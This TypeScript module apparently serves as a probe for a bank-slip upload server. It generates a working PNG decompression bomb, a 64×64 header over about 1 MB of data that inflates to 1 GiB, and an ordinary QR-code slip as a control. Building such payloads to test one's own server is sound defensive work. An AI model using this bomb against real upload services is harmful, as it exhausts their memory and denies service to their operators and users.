import { randomBytes } from 'node:crypto';
import zlib from 'node:zlib';
import { slipVerify } from 'promptparse/generate';
import QRCode from 'qrcode';

const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
};

/** A zlib stream of `size` zero bytes, built a piece at a time so that the zeros never sit in memory. */
function deflatedZeros(size: number): Buffer {
  const piece = 16 * 1024 * 1024;
  // A full flush ends each piece on a byte boundary with no reference into the one before, so the
  // compressed piece can be repeated.
  const compressedPiece = zlib.deflateRawSync(Buffer.alloc(piece), { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const parts: Buffer[] = [Buffer.from([0x78, 0xda])];
  let left = size;
  for (; left >= piece; left -= piece) parts.push(compressedPiece);
  parts.push(zlib.deflateRawSync(Buffer.alloc(left), { level: 9 }));
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((size % 65521) << 16) | 1) >>> 0); // Adler-32 of zeros
  parts.push(adler);
  return Buffer.concat(parts);
}

/**
 * The probe's decompression bomb: an interlaced PNG whose header says 64×64 and whose image data
 * (about 1 MB for 1 GiB) inflates to `inflatedBytes` of zeros. A random comment makes every one's
 * bytes new, so each can back a deposit.
 */
export function pngBomb(inflatedBytes = 1024 * 1024 * 1024): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(64, 0);
  header.writeUInt32BE(64, 4);
  header.set([8, 6, 0, 0, 1], 8); // 8-bit RGBA, Adam7 interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('tEXt', Buffer.from(`Comment\0${randomBytes(8).toString('hex')}`, 'latin1')),
    chunk('IDAT', deflatedZeros(inflatedBytes)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A bystander's ordinary slip: the QR code of a bank's slip-verification payload (a new transfer
 * reference on every call, so no two deposits share it), 720 px square, which the server decodes
 * and reads in full.
 */
export function slipPng(): Promise<Buffer> {
  const reference = `2026${randomBytes(8).toString('hex').toUpperCase()}`;
  return QRCode.toBuffer(slipVerify({ sendingBank: '004', transRef: reference }), { type: 'png', width: 720, margin: 8 });
}
